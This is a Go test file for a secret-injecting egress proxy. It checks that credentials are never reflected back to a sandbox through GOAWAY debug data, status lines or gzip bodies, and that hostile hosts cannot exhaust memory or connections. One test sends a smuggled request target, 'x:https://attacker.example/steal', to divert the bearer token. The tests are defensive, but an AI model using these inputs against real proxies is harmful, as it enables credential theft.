package egress

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// rawTLSUpstream listens with the httptest certificate (example.com),
// offering protos, and hands each connection to serve.
func rawTLSUpstream(t *testing.T, protos []string, serve func(c *tls.Conn)) (uint16, *x509.CertPool) {
	t.Helper()
	ts := httptest.NewUnstartedServer(http.NotFoundHandler())
	ts.StartTLS()
	t.Cleanup(ts.Close)
	roots := x509.NewCertPool()
	roots.AddCert(ts.Certificate())
	ln, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{Certificates: ts.TLS.Certificates, NextProtos: protos})
	if err != nil {
		t.Fatal(err)
	}
	serveEach(t, ln, func(c net.Conn) {
		if tc := c.(*tls.Conn); tc.Handshake() == nil {
			serve(tc)
		}
	})
	return netip.MustParseAddrPort(ln.Addr().String()).Port(), roots
}

// sendWithSecret sends GET https://example.com/ over cc with sec's
// placeholder as its bearer token, and reads the whole answer.
func sendWithSecret(cc *http2.ClientConn, sec Secret) (*http.Response, []byte, error) {
	req, _ := http.NewRequest("GET", "https://example.com/", nil)
	req.Header.Set("Authorization", "Bearer "+sec.Placeholder)
	resp, err := cc.RoundTrip(req)
	if err != nil {
		return nil, nil, err
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, b, nil
}

// getWithSecret is sendWithSecret's status, and its headers, trailers and
// body as one text.
func getWithSecret(t *testing.T, cc *http2.ClientConn, sec Secret) (int, string, error) {
	resp, b, err := sendWithSecret(cc, sec)
	if err != nil {
		return 0, "", err
	}
	var all strings.Builder
	resp.Header.Write(&all)
	resp.Trailer.Write(&all)
	return resp.StatusCode, all.String() + string(b), nil
}

// statusLineIsAuth is an HTTP/1.1 upstream whose answer's first line is
// the Authorization it got, which a transport's error then quotes.
func statusLineIsAuth(c *tls.Conn) {
	req, err := http.ReadRequest(bufio.NewReader(c))
	if err != nil {
		return
	}
	fmt.Fprintf(c, "%s\r\n\r\n", req.Header.Get("Authorization"))
}

// A hostile (or reflecting) HTTP/2 upstream answers with a GOAWAY whose
// debug data holds the request's Authorization: the transport's error
// quotes it, and the 502 the sandbox gets must not.
func TestHostileGoAwayDebugStaysOut(t *testing.T) {
	port, roots := rawTLSUpstream(t, []string{"h2"}, func(c *tls.Conn) {
		br := bufio.NewReader(c)
		pre := make([]byte, len(http2.ClientPreface))
		if _, err := io.ReadFull(br, pre); err != nil {
			return
		}
		fr := http2.NewFramer(c, br)
		fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
		_ = fr.WriteSettings()
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			if mh, ok := f.(*http2.MetaHeadersFrame); ok {
				auth := ""
				for _, hf := range mh.Fields {
					if hf.Name == "authorization" {
						auth = hf.Value
					}
				}
				_ = fr.WriteGoAway(mh.StreamID, http2.ErrCodeInternal, []byte(auth))
				time.Sleep(100 * time.Millisecond)
				return
			}
		}
	})
	h, caPool, sec := interceptFixture(t, roots, "hx-s3cr3t-abcdefghijkl", "example.com")
	cc := h2Client(t, proxyFixture(t, h), port, caPool)
	status, all, err := getWithSecret(t, cc, sec)
	if strings.Contains(all, sec.Value) || (err == nil && status != http.StatusBadGateway) {
		t.Fatalf("a GOAWAY whose debug data holds the value: %d %v %q", status, err, all)
	}
}

// An HTTP/1.1 upstream whose first line is the Authorization it got:
// the transport's "malformed HTTP status code" error quotes it, and the
// 502 the sandbox gets must not.
func TestHostileStatusLineStaysOutOverHTTP2(t *testing.T) {
	port, roots := rawTLSUpstream(t, []string{"http/1.1"}, statusLineIsAuth)
	h, caPool, sec := interceptFixture(t, roots, "hx-s3cr3t-abcdefghijkl", "example.com")
	cc := h2Client(t, proxyFixture(t, h), port, caPool)
	status, all, err := getWithSecret(t, cc, sec)
	if err != nil || status != http.StatusBadGateway || strings.Contains(all, sec.Value) {
		t.Fatalf("a status line that is the value: %d %v %q", status, err, all)
	}
}

// The same on the HTTP/1.1 intercepted path (readFinal's error).
func TestHostileStatusLineStaysOut(t *testing.T) {
	port, roots := rawTLSUpstream(t, []string{"http/1.1"}, statusLineIsAuth)
	h, caPool, sec := interceptFixture(t, roots, "hx-s3cr3t-abcdefghijkl", "example.com")
	tc := connectTLS(t, proxyFixture(t, h), port, caPool, "http/1.1")
	fmt.Fprintf(tc, "GET / HTTP/1.1\r\nHost: example.com\r\nAuthorization: Bearer %s\r\n\r\n", sec.Placeholder)
	_ = tc.SetReadDeadline(time.Now().Add(10 * time.Second))
	all, _ := io.ReadAll(tc)
	if !strings.HasPrefix(string(all), "HTTP/1.1 502") || strings.Contains(string(all), sec.Value) {
		t.Fatalf("a status line that is the value: %q", all)
	}
}

// HTTP/1.1 intercepted path: a request target "x:https://attacker.example/"
// parses as an opaque URL, which would go on as an absolute-form target
// naming another host, which an origin (Go's, nginx) must prefer over
// Host (RFC 9112 3.2.2): a shared front would route the secret to that
// virtual host. It is refused (400) and nothing reaches the host.
func TestHostileRequestTargetNamingAnotherHost(t *testing.T) {
	seen := make(chan string, 1)
	up := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		seen <- fmt.Sprintf("host=%s uri=%s auth=%s", r.Host, r.RequestURI, r.Header.Get("Authorization"))
	}))
	up.StartTLS()
	t.Cleanup(up.Close)
	roots := x509.NewCertPool()
	roots.AddCert(up.Certificate())
	port := netip.MustParseAddrPort(up.Listener.Addr().String()).Port()
	h, caPool, sec := interceptFixture(t, roots, "hx-s3cr3t-abcdefghijkl", "example.com")
	tc := connectTLS(t, proxyFixture(t, h), port, caPool, "http/1.1")
	fmt.Fprintf(tc, "GET x:https://attacker.example/steal HTTP/1.1\r\nHost: example.com\r\nAuthorization: Bearer %s\r\n\r\n", sec.Placeholder)
	resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("an opaque request target: %d", resp.StatusCode)
	}
	select {
	case s := <-seen:
		t.Fatalf("the upstream got a request: %s", s)
	case <-time.After(200 * time.Millisecond):
	}
}

// Two Content-Encoding fields, "identity" then "gzip": the gzipped body
// (with the reflected value) cannot be scrubbed, so the answer is
// refused.
func TestHostileSecondContentEncoding(t *testing.T) {
	up := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header()["Content-Encoding"] = []string{"identity", "gzip"}
		zw := gzip.NewWriter(w)
		fmt.Fprintf(zw, "seen=%s", r.Header.Get("Authorization"))
		zw.Close()
	}))
	up.EnableHTTP2 = true
	up.StartTLS()
	t.Cleanup(up.Close)
	roots := x509.NewCertPool()
	roots.AddCert(up.Certificate())
	port := netip.MustParseAddrPort(up.Listener.Addr().String()).Port()
	h, caPool, sec := interceptFixture(t, roots, "hx-s3cr3t-abcdefghijkl", "example.com")
	resp, b, err := sendWithSecret(h2Client(t, proxyFixture(t, h), port, caPool), sec)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusBadGateway {
		t.Fatalf("an answer gzipped behind an identity field: %d %v", resp.StatusCode, resp.Header)
	}
	if zr, err := gzip.NewReader(bytes.NewReader(b)); err == nil {
		if plain, _ := io.ReadAll(zr); strings.Contains(string(plain), sec.Value) {
			t.Fatal("the value reached the sandbox gzip-compressed")
		}
	}
}

// A value that contains another secret's value is replaced whole,
// whichever secret comes first and wherever a read cuts it.
func TestScrubNestedValues(t *testing.T) {
	a := Secret{Placeholder: "PH_A_xxxxxxxxxxxxxxxx", Value: "AAAA"}
	b := Secret{Placeholder: "PH_B_xxxxxxxxxxxxxxxx", Value: "tok-AAAA-rest"}
	for _, tc := range []struct {
		name    string
		secrets []Secret
		chunks  []string
	}{
		{"whole, short first", []Secret{a, b}, []string{"x tok-AAAA-rest y"}},
		{"split, long first", []Secret{b, a}, []string{"x tok-AAAA-r", "est y"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			pr, pw := io.Pipe()
			go func() {
				for _, c := range tc.chunks {
					io.WriteString(pw, c)
				}
				pw.Close()
			}()
			out, _ := io.ReadAll(&scrubber{r: pr, secrets: tc.secrets})
			want := "x " + b.Placeholder + " y"
			if string(out) != want || scrubValue(strings.Join(tc.chunks, ""), tc.secrets) != want {
				t.Errorf("body %q, header %q, want %q", out, scrubValue(strings.Join(tc.chunks, ""), tc.secrets), want)
			}
		})
	}
}

// A sandbox client opens streams with a zero stream window and never
// reads: what the host sends ahead is held on the host within the
// transport's windows (64 KiB a stream, 1 MiB a connection), not Go's
// defaults (4 MiB and 1 GiB).
func TestHostileUnreadStreamsBoundedOnHost(t *testing.T) {
	big := bytes.Repeat([]byte("x"), 8<<20)
	up := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write(big)
	}))
	up.EnableHTTP2 = true
	up.StartTLS()
	t.Cleanup(up.Close)
	roots := x509.NewCertPool()
	roots.AddCert(up.Certificate())
	port := netip.MustParseAddrPort(up.Listener.Addr().String()).Port()
	h, caPool, _ := interceptFixture(t, roots, "hx-s3cr3t-abcdefghijkl", "example.com")
	c := proxyFixture(t, h)()
	fmt.Fprintf(c, "CONNECT example.com:%d HTTP/1.1\r\nHost: example.com\r\n\r\n", port)
	br := bufio.NewReader(c)
	if resp, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect}); err != nil || resp.StatusCode != 200 {
		t.Fatal(err)
	}
	tc := tls.Client(&prefixConn{Conn: c, pre: peekAll(br)}, &tls.Config{ServerName: "example.com", RootCAs: caPool, NextProtos: []string{"h2"}})
	if err := tc.Handshake(); err != nil {
		t.Fatal(err)
	}
	tc.Write([]byte(http2.ClientPreface))
	fr := http2.NewFramer(tc, tc)
	fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	go func() { // read (and drop) frames, never grant window
		for {
			if _, err := fr.ReadFrame(); err != nil {
				return
			}
		}
	}()
	var m0 runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&m0)
	const streams = 20
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for i := range streams {
		hb.Reset()
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "example.com"}, {":path", "/"}} {
			enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
		}
		fr.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true})
	}
	time.Sleep(3 * time.Second)
	var m1 runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&m1)
	grew := int64(m1.HeapInuse) - int64(m0.HeapInuse)
	t.Logf("heap in use grew by %d MiB for %d unread streams", grew>>20, streams)
	if grew > 16<<20 {
		t.Fatalf("the proxy holds %d MiB for %d streams the sandbox does not read", grew>>20, streams)
	}
	tc.Close()
}

// An HTTP/2 host that allows one stream per connection: the streams wait
// for room on the proxy's connection rather than open more than
// h2MaxUpstream.
func TestHostileHostConnectionsBounded(t *testing.T) {
	var conns atomic.Int32
	release := make(chan struct{})
	up := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		<-release
	}))
	up.Config.ConnState = func(c net.Conn, s http.ConnState) {
		if s == http.StateNew {
			conns.Add(1)
		}
	}
	up.EnableHTTP2 = true
	up.Config.HTTP2 = &http.HTTP2Config{MaxConcurrentStreams: 1}
	up.StartTLS()
	t.Cleanup(up.Close)
	t.Cleanup(func() { close(release) })
	roots := x509.NewCertPool()
	roots.AddCert(up.Certificate())
	port := netip.MustParseAddrPort(up.Listener.Addr().String()).Port()
	h, caPool, _ := interceptFixture(t, roots, "hx-s3cr3t-abcdefghijkl", "example.com")
	cc := h2Client(t, proxyFixture(t, h), port, caPool)
	var wg sync.WaitGroup
	for range 60 {
		wg.Go(func() {
			req, _ := http.NewRequest("GET", "https://example.com/", nil)
			resp, err := cc.RoundTrip(req)
			if err == nil {
				resp.Body.Close()
			}
		})
	}
	time.Sleep(3 * time.Second)
	if conns.Load() > h2MaxUpstream {
		t.Errorf("%d upstream connections", conns.Load())
	}
}
